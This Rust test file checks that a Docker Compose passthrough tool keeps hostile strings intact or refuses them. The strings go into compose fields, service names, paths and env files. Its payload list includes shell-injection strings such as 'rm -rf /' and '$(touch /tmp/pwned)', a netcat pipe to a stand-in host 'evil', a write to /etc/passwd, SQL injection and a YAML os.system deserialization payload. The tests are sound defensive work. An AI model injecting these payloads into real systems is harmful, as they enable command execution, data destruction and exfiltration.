//! Hostile values: whatever a string says, it arrives as that string or is refused.

use serde_yaml::Value;

use super::Project;
use super::input;
use super::passthrough;

/// Strings that mean something to a shell, a YAML reader, Compose or a terminal.
pub(in crate::compose) const PAYLOADS: [&str; 32] = [
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "; rm -rf / #",
    "&& id",
    "| nc evil 1",
    "> /etc/passwd",
    "${HOME}",
    "$HOME",
    "$$",
    "$${X}",
    "${X:?}",
    "$",
    "'; drop table x; --",
    "\"quoted\"",
    "it's",
    "back\\slash\\n",
    "line\nbreak: true\n- x",
    "\ttab",
    "cr\r\nlf",
    "- item",
    "key: value",
    "# comment",
    "&anchor *alias",
    "!!python/object/apply:os.system [id]",
    "{a: b}",
    "[x, y]",
    "*",
    "yes",
    "~",
    "0x1F",
    "2001-01-01",
    "\u{1b}[31m\u{7}\u{85}\u{2028}\u{feff}\u{1f4a9}\u{0301}",
];

/// What Compose makes of a value it reads: `$$` is a dollar.
fn undollar(text: &str) -> String {
    text.replace("$$", "$")
}

/// A payload as the author of a compose file writes it: escaped, a dollar as two.
fn written(payload: &str) -> String {
    let escaped: String = payload
        .replace('$', "$$")
        .chars()
        .map(|character| match character {
            '"' | '\\' => format!("\\{character}"),
            ' '..='~' => character.to_string(),
            other => format!("\\U{:08x}", other as u32),
        })
        .collect();
    format!("\"{escaped}\"")
}

#[test]
fn every_field_arrives_as_it_was() {
    // The field, and where it is in the result.
    let fields: [(&str, &[&str]); 16] = [
        ("command: [@]", &["command", "0"]),
        ("command: @", &["command"]),
        ("entrypoint: [sh, @]", &["entrypoint", "1"]),
        ("environment: {K: @}", &["environment", "K"]),
        ("labels: {k: @}", &["labels", "k"]),
        ("working_dir: @", &["working_dir"]),
        ("hostname: @", &["hostname"]),
        ("user: @", &["user"]),
        ("healthcheck: {test: [CMD, @]}", &["healthcheck", "test", "1"]),
        ("build: {context: ., args: {A: @}}", &["build", "args", "A"]),
        ("build: {context: ., target: @}", &["build", "target"]),
        ("build: {context: ., dockerfile_inline: @}", &["build", "dockerfile_inline"]),
        ("stop_signal: @", &["stop_signal"]),
        ("extra_hosts: [@]", &["extra_hosts", "0"]),
        ("tmpfs: [@]", &["tmpfs", "0"]),
        ("group_add: [@]", &["group_add", "0"]),
    ];
    for payload in PAYLOADS {
        for (field, path) in fields {
            let line = field.replace('@', &written(payload));
            let compose = format!("services:\n  web:\n    image: nginx\n    ports: ['80']\n    {line}\n");
            let files = Project::of(&[("compose.yaml", &compose), ("Dockerfile", "")]);
            let plan = passthrough(&input(&files)).unwrap_or_else(|problems| panic!("{line}: {problems:?}"));
            let tree: Value = serde_yaml::from_str(&plan.file).unwrap();
            let mut found = &tree["services"]["web"];
            for step in path {
                found = step.parse::<usize>().map_or_else(|_| &found[*step], |at| &found[at]);
            }
            assert_eq!(undollar(found.as_str().unwrap_or_default()), payload, "{line}\n{}", plan.file);
        }
    }
}

#[test]
fn names_and_paths_are_refused_or_exact() {
    for payload in PAYLOADS {
        let quoted = written(payload);
        for compose in [
            format!("services: {{{quoted}: {{image: nginx, ports: ['80']}}}}"),
            format!("services: {{web: {{image: {quoted}, ports: ['80']}}}}"),
            format!("services: {{web: {{build: {quoted}, ports: ['80']}}}}"),
            format!("services: {{web: {{build: {{context: ., dockerfile: {quoted}}}, ports: ['80']}}}}"),
            format!("services: {{web: {{image: nginx, ports: [{quoted}]}}}}"),
            format!("services: {{web: {{image: nginx, ports: ['80'], network_mode: {quoted}}}}}"),
            format!("services: {{web: {{image: nginx, ports: ['80'], env_file: {quoted}}}}}"),
            format!("services: {{web: {{image: nginx, ports: ['80'], secrets: [{quoted}]}}}}"),
            format!("services: {{web: {{image: nginx, ports: ['80'], networks: [{quoted}]}}}}"),
            format!("services: {{web: {{image: nginx, ports: ['80'], cap_add: [{quoted}]}}}}"),
        ] {
            let files = Project::of(&[("compose.yaml", &compose), ("Dockerfile", "")]);
            match passthrough(&input(&files)) {
                Err(problems) => {
                    for problem in problems {
                        assert!(
                            !problem.message.is_empty() && !problem.to_string().contains('\u{1b}'),
                            "{compose}: {problem}"
                        );
                    }
                }
                Ok(plan) => {
                    let word = payload.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
                    assert!(word, "{compose}\n{}", plan.file);
                }
            }
        }
    }
}

#[test]
fn environment_files_arrive_byte_for_byte() {
    for payload in PAYLOADS {
        let literal = payload.replace('\r', "");
        if literal.contains('\'') {
            continue;
        }
        let env = format!("A='{literal}'\n");
        let files = Project::of(&[
            ("compose.yaml", "services: {web: {image: nginx, ports: ['80'], env_file: a.env}}"),
            ("a.env", &env),
        ]);
        let plan = passthrough(&input(&files)).unwrap_or_else(|problems| panic!("{payload}: {problems:?}"));
        let tree: Value = serde_yaml::from_str(&plan.file).unwrap();
        assert_eq!(undollar(tree["services"]["web"]["environment"]["A"].as_str().unwrap()), literal);
    }
}
